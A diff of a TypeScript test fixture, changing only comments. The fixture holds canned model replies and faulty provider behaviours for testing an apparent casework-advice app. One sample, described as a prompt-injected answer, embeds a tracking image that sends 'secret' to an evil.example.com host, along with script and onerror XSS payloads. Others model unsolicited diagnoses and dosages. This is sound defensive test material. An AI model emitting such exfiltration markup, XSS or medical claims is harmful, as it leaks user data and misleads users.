@@ -6,10 +6,10 @@ Thank the client, and say that you would like to think about what the gift means
 - Ask your supervisor whether the agency has a rule about gifts [1].
 - Write down what was offered, what you said, and why [1].`;
 
-/** What models say in tests. */
+/** Texts of models in tests. */
 export const texts = {
   answer: good,
-  /** Obeys an instruction in the question: an image that would tell somebody who reads it, a link, and HTML. */
+  /** Obeys an instruction in the question: it has an image that would report its reader, a link, and HTML. */
   injected: `${good}\n\n![tracker](https://evil.example.com/pixel.png?q=secret) <img src=x onerror=alert(1)> Read [more](https://evil.example.com/more) or www.evil.example.com <script>alert(1)</script>`,
   diagnosis: `${good}\n\nFrom what you describe, your client has major depressive disorder, which explains the gift [1].`,
   dosage: `${good}\n\nTo sleep better, a start with 25 mg at night is common [1].`,
@@ -22,7 +22,7 @@ export const texts = {
   short: 'Ask your supervisor [1].',
 } as const;
 
-/** An answer in the JSON that models are asked for. */
+/** Returns an answer in the JSON that models are asked for. */
 export const inJson = (answer: string, danger: unknown = null): string => JSON.stringify({ danger, answer });
 
 type Misbehave = (response: ServerResponse, say: (text: string) => void) => void;
@@ -36,10 +36,10 @@ const status =
     response.writeHead(code, { 'content-type': 'application/json' }).end(JSON.stringify(body));
   };
 
-/** What providers do instead of answering. */
+/** Ways in which providers fail to answer. */
 export const misbehaviors = {
   hang: () => undefined,
-  /** A blank every 20 ms, without an end. */
+  /** Sends a blank every 20 ms, without end. */
   trickle: (response) => {
     begin(response);
     const timer = setInterval(() => response.write(' '), 20);
@@ -60,7 +60,7 @@ export const misbehaviors = {
   invalidJson: (response) => begin(response).end('{"choices": [{"message"'),
   otherJson: (response) => begin(response).end('{"choices": "gift"}'),
   hundredKilobytes: (_response, say) => say('All work and no play [1]. '.repeat(4_000)),
-  /** Never stops, as fast as it can. */
+  /** Sends as fast as it can, without end. */
   flood: (response) => {
     begin(response);
     const text = ' '.repeat(10_000);
